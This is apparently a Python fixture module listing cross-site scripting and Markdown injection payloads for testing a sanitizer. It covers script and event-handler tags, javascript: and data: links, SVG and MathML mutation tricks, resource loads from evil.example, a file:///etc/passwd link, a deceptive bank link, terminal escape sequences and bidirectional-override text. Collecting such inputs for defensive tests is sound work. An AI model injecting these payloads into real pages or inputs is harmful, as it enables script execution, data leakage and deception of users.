"""Texts that would run script, ask the network or mislead the reader, if a page took them for more than text.

Each sets ``window.pwned``, opens a dialog or asks ``evil.example`` where it works. Of the kinds collected in
the OWASP XSS filter evasion cheat sheet, DOMPurify's tests and the security advisories of Markdown parsers.
"""

from __future__ import annotations

RUN = "window.pwned=1"
ASK = "http://evil.example/x"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={ASK}></script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ASK}.png>",
    f"<img srcset='{ASK} 1x'>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<img src=x:x onerror\n=\n'{RUN}'>",
    f"<IMG SRC=x ONERROR=&#119;indow.pwned=1>",  # noqa: F541
    f"<body onload={RUN}>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{ASK}'></object>",
    f"<embed src='{ASK}'>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}' form=f>x</button>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<base href='{ASK}'>",
    f"<link rel=stylesheet href='{ASK}'>",
    f"<link rel=preload as=image href='{ASK}'>",
    f"<meta http-equiv=refresh content='0;url={ASK}'>",
    f"<style>@import '{ASK}'; * {{ background: url({ASK}) }}</style>",
    f"<div style=\"background:url('{ASK}')\">x</div>",
    f"<p onmouseover={RUN}>x</p>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
]

FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{ASK}#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
]

ADDRESSES = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java\nscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;&#x61;vascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\u0001javascript:{RUN})",
    f"[x](\u00a0javascript:{RUN})",
    f"[x](javascript\u2028:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",  # noqa: F541
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    f"[x](<javascript:{RUN}>)",
    f"[x](https://a.b 'title\" onmouseover=\"{RUN}')",
    f'[x](https://a.b"onmouseover={RUN})',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f"![x]({ASK}.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f'![x"onerror="{RUN}](x)',
    f"[![x]({ASK}.png)](javascript:{RUN})",
    "[https://bank.example](https://bank.example@evil.example)",
]

OTHER = [
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|---|---|\n| <svg onload={RUN}> | y |",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>",
    f"**<script>{RUN}</script>**",
    f"${{{RUN}}} `${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"';{RUN};//",
    f'"><img src=x onerror={RUN}>',
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\",
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f"\x1b]0;{RUN}\x07\x1b[2J\x1b[999999999C<img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    "access\u202e\u2066// admin\u2069\u2066 only",
    "\u200b\u2060\ufeffhidden",
    f"\x00<img src=x onerror={RUN}>",
    "__proto__",
    "constructor",
    "</script><!--",
]

HOSTILE = [*TAGS, *FOREIGN, *ADDRESSES, *OTHER]
